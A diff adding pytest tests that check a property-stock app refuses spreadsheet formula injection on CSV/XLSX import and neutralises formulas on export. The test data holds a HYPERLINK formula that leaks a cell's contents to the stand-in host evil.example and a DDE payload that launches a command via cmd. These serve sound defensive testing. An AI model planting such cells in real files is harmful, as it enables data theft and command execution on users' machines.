@@ -1,5 +1,6 @@
 """Import and export of stock in every format, good files and bad, all or nothing."""
 
+import csv
 import io
 import json
 import time
@@ -454,3 +455,125 @@ def test_database_limits_are_reported_by_row(clerk, tmp_path):
     )
     found = {(p.row, p.field) for p in plan_for(clerk, path).errors}
     assert {(1, "厅"), (1, "房号")} <= found
+
+
+# --- formula injection (issue 10, item 2) ------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+def text_cells_xlsx(table: pd.DataFrame, path: Path) -> None:
+    """Every cell a text cell, as Excel stores "=..." typed after a quote (pandas would write a
+    live formula, which the importer reads as its cached value)."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    sheet = book.active
+    for values in [list(table.columns), *table.astype(str).itertuples(index=False)]:
+        sheet.append(list(values))
+        for cell in sheet[sheet.max_row]:
+            cell.data_type = "s"
+    book.save(path)
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+@pytest.mark.parametrize(
+    ("key", "header", "value"),
+    [
+        ("estate", "项目名称", FORMULA),
+        ("address", "地址", "+1+cmd|' /C calc'!A0"),
+        ("building", "楼号", "-1+2"),
+        ("unit", "房号", "@SUM(1)"),
+        ("district", "区县", "\t=1+1"),
+        ("estate", "项目名称", "'=1+1"),  # our own export's escape does not slip back in
+    ],
+)
+def test_formula_cells_are_refused_naming_the_row_and_the_column(
+    clerk, tmp_path, suffix, key, header, value
+):
+    table = pd.DataFrame(rows(4)).astype(str)
+    table["district"] = "谯城区"
+    table.loc[3, key] = value
+    table["经度"], table["纬度"] = QIAOCHENG_POINT
+    path = tmp_path / f"formula{suffix}"
+    if suffix == ".csv":
+        table.to_csv(path, index=False, encoding="utf-8-sig")
+    else:
+        text_cells_xlsx(table, path)
+    plan = plan_for(clerk, path)
+    (problem,) = plan.errors
+    assert (problem.row, problem.field) == (5, header)
+    assert str(problem) == f"第 5 行“{header}”：不能以 = + - @ 开头（可能是表格公式）"
+    with pytest.raises(services.NotAllowed):
+        services.import_stock(plan, actor=clerk)
+    assert not Estate.objects.filter(name="导入测试家园").exists(), "all or nothing"
+
+
+def test_negative_numbers_stay_numbers_on_import(clerk, tmp_path):
+    table = pd.DataFrame(rows(1, floor="-1", floors="18")).astype(str)
+    table["经度"], table["纬度"] = QIAOCHENG_POINT
+    path = tmp_path / "basement.csv"
+    table.to_csv(path, index=False, encoding="utf-8-sig")
+    plan = plan_for(clerk, path)
+    assert plan.ok, [str(p) for p in plan.errors]
+    assert plan.rows[0].floor == -1
+
+
+def test_control_characters_and_absurd_numbers_are_refused_by_row(clerk, tmp_path):
+    table = pd.DataFrame(rows(3)).astype(str)
+    table.loc[0, "estate"] = "导入\x00测试家园"
+    table.loc[1, "rooms"] = "1e400000"  # int() of it takes seconds; of 1e999999999, forever
+    table.loc[2, "area"] = "NaN"
+    table["经度"], table["纬度"] = QIAOCHENG_POINT
+    path = tmp_path / "control.csv"
+    table.to_csv(path, index=False, encoding="utf-8-sig")
+    started = time.perf_counter()
+    found = {(p.row, p.field) for p in plan_for(clerk, path).errors}
+    assert time.perf_counter() - started < 2
+    assert {(2, "项目名称"), (3, "室"), (4, "面积")} <= found
+
+
+@pytest.fixture
+def hostile_estate(cast):
+    """An estate whose name and a building number were typed in the back office as formulas."""
+    estate = cast.inside["district"]
+    Estate.objects.filter(pk=estate.pk).update(name=FORMULA)
+    building = estate.buildings.order_by("pk").first()
+    building.number = "-1+2"
+    building.save(update_fields=["number"])
+    return estate
+
+
+def test_the_csv_export_neutralizes_formulas_and_keeps_numbers(clerk, hostile_estate):
+    path = export_stock(Unit.objects.filter(building__estate=hostile_estate), "csv")
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        records = list(csv.DictReader(fh))
+    assert records and all(r["项目名称"] == "'" + FORMULA for r in records)
+    assert any(r["楼号"] == "'-1+2" for r in records)
+    assert all(not v.startswith(("=", "+", "-", "@")) for r in records for v in r.values())
+    assert all(float(r["面积"]) > 0 and float(r["经度"]) > 0 for r in records)
+
+
+def test_the_xlsx_export_has_no_formula_cells(clerk, hostile_estate):
+    from openpyxl import load_workbook
+
+    path = export_stock(Unit.objects.filter(building__estate=hostile_estate), "xlsx")
+    sheet = load_workbook(path).active
+    header = [c.value for c in sheet[1]]
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert cells and all(c.data_type != "f" for c in cells)
+    names = {row[header.index("项目名称")].value for row in sheet.iter_rows(min_row=2)}
+    assert names == {"'" + FORMULA}
+    areas = [row[header.index("面积")] for row in sheet.iter_rows(min_row=2)]
+    assert all(c.data_type == "n" and c.value > 0 for c in areas), "numbers stay numbers"
+
+
+def test_the_back_office_download_is_neutralized_too(client, clerk, hostile_estate):
+    client.force_login(clerk)
+    response = client.get(
+        reverse("asset-export"), {"format": "csv", "estate": str(hostile_estate.pk)}
+    )
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert f"'{FORMULA}".replace('"', '""') in text
+    bad = client.get(reverse("asset-export"), {"format": "csv", "estate": "abc"})
+    assert bad.status_code == 404
